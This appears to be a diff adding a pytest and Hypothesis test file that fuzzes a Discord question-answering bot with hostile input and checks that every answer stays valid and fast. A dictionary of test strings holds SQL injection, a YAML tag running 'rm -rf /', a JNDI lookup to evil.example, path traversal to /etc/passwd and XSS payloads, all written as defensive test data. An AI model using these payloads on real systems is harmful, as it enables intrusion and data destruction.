@@ -1,0 +1,322 @@
+"""Hostile input to the engine: anything a Discord member can type is answered validly and fast."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import math
+import time
+import unicodedata
+from collections.abc import Callable
+from typing import TypeVar
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from bot.cli import answer_to_json
+from bot.core.engine.answer import AUTOCOMPLETE_LIMIT, CHOICE_NAME_LIMIT, MAX_QUESTION_CHARS, Engine
+from bot.core.knowledge.models import AliasGroup, Answer, KnowledgeBase, Suggestion
+from bot.render import render_answer
+
+T = TypeVar("T")
+
+# A hang detector, not a benchmark: calls take milliseconds, a regression to seconds fails.
+CALL_LIMIT_S = 2.0
+DISCORD_MESSAGE_MAX = 4000
+KINDS = {"fact", "passage", "none"}
+DECLINE_REASONS = {"empty", "smalltalk", "low_confidence", "too_long"}
+INVISIBLE = {"Cc", "Cf", "Cs"}
+
+# Names in every script, so that the alias paths (Latin n-grams and the CJK regex) are exercised.
+ALIASES = (
+    AliasGroup("Liancourt Rocks", ("Dokdo", "Takeshima", "독도", "獨島", "竹島")),
+    AliasGroup("South Korea", ("ROK", "Republic of Korea", "한국")),
+    AliasGroup("comfort women", ("wartime sex slaves", "위안부", "慰安婦")),
+    AliasGroup("Korean wave", ("Hallyu", "韓流", "한류")),
+    AliasGroup("GSOMIA", ("military intelligence-sharing pact",)),
+)
+
+NASTY_CHARS = list(
+    "\x00\x07\x1b\x7f\u0085\u00a0\u00ad\u034f\u061c\u180e\u200b\u200c\u200d\u200e\u200f"
+    "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\u3000\ufeff"
+    "\ufdfa\ufffd\ufffc\U000e0001\U000e0041\U0001f600\U0001f1ef\U0001f1f5\U0001f3f3\ufe0f"
+    "독도위안부한국일본竹島獨島慰安婦韓流日韓条約ー々〜"
+    "@#<>&*_~`|\\/[](){}:;'\"!?.,-=+%$^"
+)
+# Words members use (every script, and Discord markup) so that the examples also get answered.
+DOMAIN_WORDS = [
+    "dokdo", "takeshima", "liancourt", "rocks", "treaty", "1965", "comfort", "women", "korea",
+    "japan", "trade", "apology", "gsomia", "when", "who", "what", "how", "many", "why", "kim",
+    "dae", "jung", "abe", "moon", "park", "kono", "1993", "2015", "world", "cup", "hallyu",
+    "독도는", "위안부", "문제", "竹島の領有権", "慰安婦問題", "韓流",
+    "@everyone", "@here", "<@123>", "<@&456>", "<#789>", "```py", "```", "||spoiler||",
+    "**bold**", ">", "quote", "[link](https://example.org)",
+]  # fmt: skip
+
+ANY_CHAR = st.one_of(
+    st.characters(codec=None),
+    st.characters(categories=["Cc", "Cf", "Cs", "Co", "Cn", "Zs", "Zl", "Zp", "Mn", "Me"]),
+    st.sampled_from(NASTY_CHARS),
+)
+RAW_TEXT = st.text(ANY_CHAR, max_size=DISCORD_MESSAGE_MAX)
+WORDY_TEXT = st.lists(
+    st.one_of(st.sampled_from(DOMAIN_WORDS), st.text(ANY_CHAR, max_size=12)), max_size=400
+).map(lambda words: " ".join(words)[:DISCORD_MESSAGE_MAX])
+LONG_TEXT = st.text(ANY_CHAR, min_size=DISCORD_MESSAGE_MAX - 500, max_size=DISCORD_MESSAGE_MAX)
+HOSTILE_TEXT = st.one_of(RAW_TEXT, WORDY_TEXT, LONG_TEXT)
+
+FAST = settings(
+    max_examples=100,
+    deadline=None,  # we time each call ourselves, more generously than hypothesis would
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+
+
+@pytest.fixture(scope="module")
+def engines(shipped_kb: KnowledgeBase) -> list[Engine]:
+    """The shipped engine, and one over the same facts with a full multilingual alias table."""
+    return [Engine(shipped_kb), Engine(dataclasses.replace(shipped_kb, aliases=ALIASES))]
+
+
+def timed(call: Callable[[str], T], text: str) -> T:
+    """Run one engine call and fail if it takes longer than the hang limit."""
+    start = time.perf_counter()
+    result = call(text)
+    elapsed = time.perf_counter() - start
+    assert elapsed < CALL_LIMIT_S, f"{elapsed:.2f}s for {len(text)} characters: {text[:60]!r}"
+    return result
+
+
+def check_answer(answer: Answer, engine: Engine) -> None:
+    """The invariants every Answer keeps, whatever the question."""
+    assert isinstance(answer, Answer)
+    assert answer.kind in KINDS
+    assert math.isfinite(answer.score) and 0.0 <= answer.score <= 1.0
+    assert answer.answered == (answer.kind != "none")
+    assert isinstance(answer.question, str) and len(answer.question) <= MAX_QUESTION_CHARS
+    # The echo of the question carries no invisible, bidi-override or control characters.
+    assert not any(unicodedata.category(ch) in INVISIBLE for ch in answer.question)
+    if answer.answered:
+        assert answer.answer and answer.answer.strip()
+        assert answer.sources
+        assert all(view.quote and view.doc in engine.kb.sources for view in answer.sources)
+        assert answer.reason == ""
+    else:
+        assert answer.answer is None and answer.sources == () and answer.fact_id is None
+        assert answer.reason in DECLINE_REASONS
+    assert (answer.kind == "fact") == (answer.fact_id is not None)
+    if answer.fact_id is not None:
+        assert engine.kb.fact(answer.fact_id) is not None
+    for suggestion in answer.suggestions:
+        assert engine.kb.fact(suggestion.fact_id) is not None
+        assert suggestion.question and 0.0 <= suggestion.score <= 1.0
+    for alternative in answer.alternatives:
+        assert alternative.kind == "fact"
+        check_answer(alternative, engine)
+
+
+def check_json(answer: Answer) -> None:
+    """The answer serialises to strict JSON that is valid UTF-8 and reads back the same."""
+    data = answer_to_json(answer)
+    text = json.dumps(data, ensure_ascii=False, allow_nan=False)
+    text.encode("utf-8")  # a lone surrogate would make the Discord payload unsendable
+    assert json.loads(text) == data
+    assert data["answered"] == answer.answered and data["kind"] == answer.kind
+
+
+def check_completions(choices: list[Suggestion], engine: Engine) -> None:
+    """Autocomplete choices fit Discord: at most 25, names of 1-100 characters, real fact ids."""
+    assert isinstance(choices, list) and len(choices) <= AUTOCOMPLETE_LIMIT
+    for choice in choices:
+        assert 1 <= len(choice.question) <= CHOICE_NAME_LIMIT
+        assert len(choice.fact_id) <= CHOICE_NAME_LIMIT
+        assert engine.kb.fact(choice.fact_id) is not None
+        assert 0.0 <= choice.score <= 1.0
+    assert len({c.fact_id for c in choices}) == len(choices)
+
+
+# -- properties ------------------------------------------------------------------------------
+
+
+@FAST
+@given(HOSTILE_TEXT)
+def test_ask_never_fails_on_any_text(engines: list[Engine], text: str) -> None:
+    """Any Unicode text up to 4,000 characters gets a valid Answer, quickly, on every engine."""
+    for engine in engines:
+        answer = timed(engine.ask, text)
+        check_answer(answer, engine)
+        check_json(answer)
+        assert isinstance(render_answer(answer), str)
+
+
+@FAST
+@given(HOSTILE_TEXT)
+def test_complete_never_fails_on_any_text(engines: list[Engine], text: str) -> None:
+    """Any partial input gets at most 25 valid autocomplete choices, quickly."""
+    for engine in engines:
+        check_completions(timed(engine.complete, text), engine)
+
+
+@st.composite
+def partial_questions(draw: st.DrawFn, engine: Engine) -> str:
+    """What a member has typed so far: a prefix of a real question, perhaps mangled."""
+    fact = draw(st.sampled_from(engine.facts))
+    question = draw(st.sampled_from(fact.questions))
+    cut = draw(st.integers(0, len(question)))
+    noise = draw(st.text(ANY_CHAR, max_size=3))
+    return question[:cut] + noise
+
+
+@FAST
+@given(st.data())
+def test_complete_on_partial_real_questions(engines: list[Engine], data: st.DataObject) -> None:
+    """Prefixes of real questions (with stray characters) give valid choices, quickly."""
+    for engine in engines:
+        partial = data.draw(partial_questions(engine))
+        check_completions(timed(engine.complete, partial), engine)
+        check_answer(timed(engine.ask, partial), engine)
+
+
+@FAST
+@given(st.data())
+def test_real_questions_survive_invisible_characters(
+    engines: list[Engine], data: st.DataObject
+) -> None:
+    """A real question with zero-width/bidi characters sprinkled in gets the same answer."""
+    engine = engines[0]
+    question = data.draw(st.sampled_from([f.questions[0] for f in engine.facts]))
+    sprinkled = "".join(
+        ch + data.draw(st.sampled_from(["", "", "\u200b", "\u200f", "\u202e", "\ufeff", "\u2060"]))
+        for ch in question
+    )
+    plain, noisy = engine.ask(question), timed(engine.ask, sprinkled)
+    assert (noisy.kind, noisy.fact_id, noisy.score) == (plain.kind, plain.fact_id, plain.score)
+
+
+# -- specific nasty inputs -------------------------------------------------------------------
+
+NASTY = {
+    "4000 letters": "x" * DISCORD_MESSAGE_MAX,
+    "4000 chars of words": ("when was the 1965 treaty signed and why " * 100)[:DISCORD_MESSAGE_MAX],
+    "4000 one-letter words": "a " * (DISCORD_MESSAGE_MAX // 2),
+    "4000 digits": "1 " * (DISCORD_MESSAGE_MAX // 2),
+    "4000 hangul": "독" * DISCORD_MESSAGE_MAX,
+    "4000 han": "竹島" * (DISCORD_MESSAGE_MAX // 2),
+    "4000 emoji": "\U0001f600" * DISCORD_MESSAGE_MAX,
+    "4000 flags": "\U0001f1ef\U0001f1f5" * (DISCORD_MESSAGE_MAX // 2),
+    "4000 NFKC-expanding": "\ufdfa" * DISCORD_MESSAGE_MAX,
+    "4000 combining marks": "a" + "\u0301" * (DISCORD_MESSAGE_MAX - 1),
+    "only zero-width": "\u200b\u200c\u200d\ufeff\u2060" * 800,
+    "only bidi controls": "\u202e\u202d\u2066\u2067\u2069\u200e\u200f" * 500,
+    "only NUL": "\x00" * DISCORD_MESSAGE_MAX,
+    "only whitespace": " \t\n\r\u3000\u00a0" * 600,
+    "empty": "",
+    "RTL override around a question": "\u202ewhen was the 1965 treaty signed?\u202c",
+    "SQL injection": "'; DROP TABLE facts; -- when was the 1965 treaty signed?",
+    "SQL union": "1' UNION SELECT * FROM users WHERE '1'='1",
+    "YAML python tag": "!!python/object/apply:os.system ['rm -rf /']",
+    "YAML billion laughs": "a: &a [lol, lol]\nb: &b [*a, *a, *a]\nc: [*b, *b]",
+    "YAML document": "---\nfacts:\n  - id: pwned\n    answer: hacked\n...",
+    "template injection": "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n {0.__class__}",
+    "path traversal": "../../../../etc/passwd",
+    "html": "<script>alert('dokdo')</script><img src=x onerror=alert(1)>",
+    "regex bombs": "(a+)+$ " * 100 + "a" * 50 + "!",
+    "markdown code fence": "```\nwhen was the 1965 treaty signed?\n```",
+    "masked link": "[when was the 1965 treaty signed?](https://evil.example/x)",
+    "surrogates": "\ud800\udfff\udbff dokdo \udc00",
+}
+
+
+@pytest.mark.parametrize("text", NASTY.values(), ids=NASTY.keys())
+def test_nasty_input_gets_a_valid_answer_and_choices(engines: list[Engine], text: str) -> None:
+    """Each known-nasty message is answered or declined validly, with valid JSON, quickly."""
+    for engine in engines:
+        answer = timed(engine.ask, text)
+        check_answer(answer, engine)
+        check_json(answer)
+        check_completions(timed(engine.complete, text), engine)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["\u200b" * 10, "\u200b\u200c\u200d\ufeff\u2060" * 800, "\u202e\u200f", "\x00\x00", " \t\n "],
+    ids=["zero-width", "zero-width-4000", "bidi", "nul", "whitespace"],
+)
+def test_invisible_only_message_is_declined_as_empty(engine: Engine, text: str) -> None:
+    """A message with nothing visible is declined as empty, not searched."""
+    answer = engine.ask(text)
+    assert (answer.kind, answer.reason, answer.question) == ("none", "empty", "")
+
+
+@pytest.mark.parametrize(
+    "mention",
+    [
+        "@everyone",
+        "@here",
+        "<@123456789012345678>",
+        "<@!123456789012345678>",
+        "<@&123456789012345678>",
+    ],
+)
+def test_mentions_are_plain_text_to_the_engine(engine: Engine, mention: str) -> None:
+    """A mention is neither stripped nor acted on: the echo keeps it and the JSON stays valid."""
+    question = f"{mention} when was the 1965 treaty signed?"
+    answer = engine.ask(question)
+    check_answer(answer, engine)
+    check_json(answer)
+    assert json.loads(json.dumps(answer_to_json(answer)))["question"] == question
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x" * 1_000_000,
+        "dokdo " * 200_000,
+        "독도는 " * 250_000,
+        "\u200b" * 1_000_000,
+        "\x00" * 1_000_000,
+        "\U0001f600" * 1_000_000,
+    ],
+    ids=["letters", "words", "hangul", "zero-width", "nul", "emoji"],
+)
+def test_million_character_message_is_declined_quickly(engine: Engine, text: str) -> None:
+    """A million characters are declined as too long within the time limit, and so is the echo."""
+    answer = timed(engine.ask, text)
+    assert (answer.kind, answer.reason) == ("none", "too_long")
+    assert len(answer.question) <= MAX_QUESTION_CHARS
+    check_json(answer)
+    check_completions(timed(engine.complete, text), engine)
+
+
+def test_declining_an_over_long_message_costs_the_same_whatever_its_characters(
+    engine: Engine,
+) -> None:
+    """Over-long input is refused before normalisation, so NFKC expansion cannot slow it."""
+    size = 300_000  # already 75x too long; a million would only make the bug slower to show
+    start = time.process_time()
+    plain = engine.ask("x" * size)
+    baseline = time.process_time() - start
+    start = time.process_time()
+    expanding = engine.ask("\ufdfa" * size)  # NFKC turns each into 18 characters
+    elapsed = time.process_time() - start
+    assert plain.reason == expanding.reason == "too_long"
+    assert elapsed <= 5 * baseline + 0.2, f"{elapsed:.2f}s against {baseline:.2f}s for letters"
+
+
+def test_engine_does_not_change_the_knowledge(engine: Engine) -> None:
+    """Injection-looking questions leave the knowledge base exactly as it was."""
+    before = engine.kb.facts
+    for text in NASTY.values():
+        engine.ask(text)
+        engine.complete(text)
+    assert engine.kb.facts is before
+    assert engine.kb.fact("pwned") is None
+
+
+@pytest.mark.parametrize("limit", [-5, 0, 1, 25, 26, 10_000])
+def test_complete_limit_is_clamped(engine: Engine, limit: int) -> None:
+    """A caller's limit never yields more than 25 choices or a negative slice."""
+    expected = max(0, min(limit, AUTOCOMPLETE_LIMIT))
+    assert len(engine.complete("", limit=limit)) == expected  # empty input lists facts
+    assert len(engine.complete("treaty", limit=limit)) <= expected
